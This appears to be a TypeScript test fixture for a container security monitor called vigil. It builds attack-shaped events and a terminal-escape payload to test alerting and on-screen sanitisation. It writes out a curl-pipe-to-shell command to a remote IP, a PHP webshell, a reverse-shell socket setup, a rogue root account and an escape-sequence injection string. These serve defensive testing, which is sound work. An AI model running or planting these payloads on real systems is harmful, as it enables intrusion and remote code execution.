// What the security tests share: a payload of everything a terminal acts on, tagged so each
// field it was put in can be found on the screen again, and events of every kind carrying it.
import { writeFileSync } from 'node:fs';
import type { ContainerSnapshot, VigilEvent } from '../../src/engine/events.js';
import { snapshotEvent, snapshotFixture } from '../helpers/engine.js';
import { CONTAINER } from '../helpers/kernel-events.js';

/**
 * OSC (set the window title), a screen clear, SGR colour, a bidi override, the 8-bit CSI, NUL,
 * backspace, carriage return, newline, a bidi isolate and DEL: obeyed, each would change what
 * the operator sees.
 */
export const PAYLOAD = '\x1b]0;pwned\x07\x1b[2J\x1b[31m\u202e\x9b1m\x00\x08\r\n\u2066\x7f';

/** Every tag handed out, so a test can ask for each of them on the screen. */
export const tags = new Set<string>();

/** A field's value: a short name to find it by, then the payload. */
export function tag(name: string): string {
  tags.add(name);
  return `${name}${PAYLOAD}`;
}

/** The payload without its line breaks, for fields read line by line (account files, command lines matched by patterns). */
export function tagLine(name: string): string {
  tags.add(name);
  return `${name}${PAYLOAD.replace(/[\r\n]/g, '')}`;
}

/** How a tagged field looks once made inert: terminalSafe's `\x1b` or JSON's `\u001b`. */
export const shownEscaped = (name: string): RegExp => new RegExp(`${name}\\\\(?:x1b|u001b)\\]0;pwned`);

/** Anything a terminal acts on except the newline between lines: C0, DEL, C1, bidi controls, lone surrogates. */
export const UNSAFE_ON_SCREEN = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

export const HEADER = { format: 'vigil-recording', version: 1, host: 'test', startedAt: '2026-11-27T10:00:00.000Z', vigilVersion: '0.1.0' };

/** Writes a recording: the header, then each line (events as JSON, strings as given, buffers as bytes). */
export function writeRecording(path: string, lines: readonly (VigilEvent | string | Buffer)[], header: unknown = HEADER): string {
  const parts = [JSON.stringify(header), ...lines].map((l) => (Buffer.isBuffer(l) ? l : Buffer.from(typeof l === 'string' ? l : JSON.stringify(l))));
  writeFileSync(path, Buffer.concat(parts.flatMap((p) => [p, Buffer.from('\n')])));
  return path;
}

const at = (second: number) => new Date(Date.parse('2026-11-27T10:00:00Z') + second * 1000).toISOString();

/** A running container of a blocked image (profile: blockedImages ["evil/*"]), every string of it tagged. */
export function hostileContainer(id = CONTAINER): ContainerSnapshot {
  const base = snapshotFixture('privileged');
  return {
    ...base,
    id,
    name: tag('N01'),
    image: `evil/${tag('N02')}`,
    imageId: `sha256:${tag('N03')}`,
    runtime: tag('N04'),
    user: tag('N05'),
    mounts: [...base.mounts, { type: 'bind', source: `/etc/${tagLine('N06')}`, destination: `/mnt/${tag('N07')}`, rw: true, propagation: 'rprivate' }],
    devices: [{ host: `/dev/${tag('N08')}`, container: `/dev/${tag('N09')}`, permissions: 'rwm' }],
    env: [`${tag('N10')}=<redacted>`],
    labels: { [tag('N11')]: tag('N12') },
    cmd: [tag('N13')],
    securityOpt: [...base.securityOpt, `label=${tag('N14')}`],
    capAdd: [...base.capAdd, 'SYS_ADMIN', tag('N15')],
    state: { ...base.state, running: true, status: 'running' },
  };
}

/**
 * Events of every kind, each string an attacker can choose tagged, each raising at least one
 * alert (profile: blockedImages ["evil/*"]). Tags are N.. (container), P.. (processes), F..
 * (files), L.. (logs), K.. (Kubernetes), V.. (vigil's own kinds), T.. (timestamps).
 */
export function hostileEvents(): VigilEvent[] {
  let seq = 0;
  const next = () => ++seq;
  const container = hostileContainer();
  const process = (pid: number, exe: string, cmdline: string[]) => ({ pid, ppid: 1, startTime: 5000 + pid, exe, cmdline, uid: 0, euid: 0, containerId: CONTAINER });
  const auditProcess = (pid: number, exe: string, cmdline: string[], comm: string) => ({ ...process(pid, exe, cmdline), comm, startTimeExact: true });
  const k8sUser = { username: tag('K01'), groups: [tag('K02')] };
  const events: VigilEvent[] = [
    { ...snapshotEvent(container, 'start', next()), ts: at(1) },
    { seq: next(), ts: at(2), source: 'docker', kind: 'container.lifecycle', data: { action: 'rename', id: CONTAINER, name: tag('N20'), image: tag('N21') } },
    // A shell with its stdin and stdout on a socket: system.reverse_shell.
    {
      seq: next(),
      ts: at(3),
      source: 'proc',
      kind: 'process.snapshot',
      data: {
        ...process(4242, '/bin/bash', ['bash', '-i', tag('P01')]),
        sockets: [0, 1].map((fd) => ({ fd, protocol: 'tcp' as const, local: `172.17.0.2:${tag('P02')}`, remote: `10.0.0.9:${tag('P03')}`, state: 'ESTABLISHED' })),
      },
    },
    // Download and execute: system.high_risk_command.
    {
      seq: next(),
      ts: at(4),
      source: 'audit',
      kind: 'exec',
      data: {
        serial: 1,
        key: tag('P10'),
        success: true,
        exit: 0,
        process: auditProcess(4300, '/usr/bin/curl', ['sh', '-c', `curl -s http://203.0.113.7/x | sh ${tagLine('P11')}`], tag('P12')),
        cwd: `/${tag('P13')}`,
        paths: [{ name: `/usr/bin/${tag('P14')}`, nametype: 'NORMAL', mode: '0100755', inode: tag('P15') }],
      },
    },
    // A high-risk syscall: system.syscall.
    {
      seq: next(),
      ts: at(5),
      source: 'audit',
      kind: 'syscall',
      data: {
        serial: 2,
        key: tag('P20'),
        success: true,
        exit: 0,
        process: auditProcess(4301, `/tmp/${tag('P21')}`, [tag('P22')], tag('P23')),
        cwd: '/',
        paths: [{ name: `/proc/${tag('P24')}`, nametype: 'NORMAL', mode: '', inode: '' }],
        syscall: 'unshare',
        args: [tag('P25'), '0', '0', '0'],
        sockaddr: { family: 'inet', address: tag('P26'), port: 4444 },
      },
    },
    // A webshell dropped into the web root: malware.webshell.
    {
      seq: next(),
      ts: at(6),
      source: 'files',
      kind: 'file.change',
      data: {
        containerId: CONTAINER,
        path: `/var/www/html/${tagLine('F01')}.php`,
        action: 'created',
        size: 64,
        stat: { mode: '100644', uid: 33, gid: 33 },
        sha256: tag('F02'),
        content: `<?php system($_GET['c']); // ${tagLine('F03')}\n?>\n`,
      },
    },
    // A second uid 0 account: user.illegal_account.
    {
      seq: next(),
      ts: at(7),
      source: 'files',
      kind: 'accounts',
      data: {
        containerId: CONTAINER,
        reason: 'change',
        passwd: `root:x:0:0:root:/root:/bin/sh\n${tagLine('F10')}:x:0:0:${tagLine('F11')}:/root:/bin/sh\n`,
        shadow: null,
        group: null,
        imagePasswd: 'root:x:0:0:root:/root:/bin/sh\n',
      },
    },
    // Five failed logins, then one that works: user.brute_force.
    ...Array.from({ length: 6 }, (_, i): VigilEvent => ({
      seq: next(),
      ts: at(10 + i),
      source: 'logs',
      kind: 'auth',
      data: { service: 'ssh', outcome: i < 5 ? 'failure' : 'success', sourceIp: tag('L01'), user: tag('L02'), containerId: CONTAINER, origin: tag('L03'), line: tag(`L1${i}`) },
    })),
    // kubectl exec into a pod: cluster.pod_anomaly.
    {
      seq: next(),
      ts: at(20),
      source: 'k8s',
      kind: 'audit',
      data: {
        auditID: tag('K03'),
        stage: 'ResponseStarted',
        level: 'Metadata',
        verb: 'create',
        requestURI: `/api/v1/namespaces/web/pods/shop/exec?command=${encodeURIComponent(tag('K04'))}&stdin=true&tty=true`,
        user: k8sUser,
        sourceIPs: [tag('K05')],
        userAgent: tag('K06'),
        objectRef: { resource: 'pods', subresource: 'exec', namespace: tag('K07'), name: tag('K08'), apiVersion: 'v1' },
        responseStatus: { code: 101, message: tag('K09') },
        requestReceivedTimestamp: tag('K10'),
      },
    },
    // A privileged pod created through the API: cluster.pod_anomaly, with a request object.
    {
      seq: next(),
      ts: at(21),
      source: 'k8s',
      kind: 'audit',
      data: {
        auditID: 'b7a3c6a2-0000-4000-8000-000000000001',
        stage: 'ResponseComplete',
        level: 'Request',
        verb: 'create',
        requestURI: '/api/v1/namespaces/web/pods',
        user: k8sUser,
        sourceIPs: ['10.0.0.23'],
        userAgent: 'kubectl',
        objectRef: { resource: 'pods', namespace: 'web', name: tag('K20'), apiVersion: 'v1' },
        responseStatus: { code: 201 },
        requestObject: {
          kind: 'Pod',
          apiVersion: 'v1',
          metadata: { name: tag('K20'), namespace: 'web', annotations: { [tag('K21')]: tag('K22') } },
          spec: { containers: [{ name: tag('K23'), image: tag('K24'), securityContext: { privileged: true } }] },
        },
        requestReceivedTimestamp: '2026-11-27T10:00:21.000000Z',
      },
    },
    // A pod the watch saw, privileged, with a dangerous hostPath and a mirror annotation.
    {
      seq: next(),
      ts: at(22),
      source: 'k8s',
      kind: 'pod.snapshot',
      data: {
        reason: 'added',
        pod: {
          namespace: tag('K30'),
          name: tag('K31'),
          uid: tag('K32'),
          nodeName: tag('K33'),
          serviceAccountName: tag('K34'),
          annotations: { 'kubernetes.io/config.mirror': tag('K35') },
          ownerReferences: [{ kind: 'Node', name: tag('K36') }],
          hostNetwork: true,
          hostPID: false,
          hostIPC: false,
          containers: [{ name: tag('K37'), image: tag('K38'), privileged: true, capAdd: [tag('K39')], capDrop: [], volumeMounts: [{ name: 'host', mountPath: tag('K40'), readOnly: false }] }],
          initContainers: [],
          ephemeralContainers: [],
          volumes: [{ name: 'host', hostPath: `/etc/${tag('K41')}` }],
          phase: tag('K42'),
        },
      },
    },
    // vigil's own kinds, as a recording can claim them.
    { seq: next(), ts: at(30), source: 'vigil', kind: 'source.status', data: { source: tag('V01'), state: 'down', reason: tag('V02') } },
    { seq: next(), ts: at(31), source: 'vigil', kind: 'dropped', data: { source: tag('V03'), count: 3, total: 3 } },
    { seq: next(), ts: at(32), source: 'vigil', kind: 'enforcement', data: { containerId: CONTAINER, action: 'stop', ok: false, error: tag('V04') } },
    { seq: next(), ts: at(33), source: 'vigil', kind: 'whitelist', data: { entries: [{ image: tag('V05'), process: tag('V06'), enabled: true }] } },
    // A timestamp is a string from the file too; the last one is where the replay stops.
    { seq: next(), ts: `2026-11-27T${tag('T01')}`, source: 'vigil', kind: 'source.status', data: { source: 'audit', state: 'degraded', reason: 'lost events' } },
  ];
  return events;
}
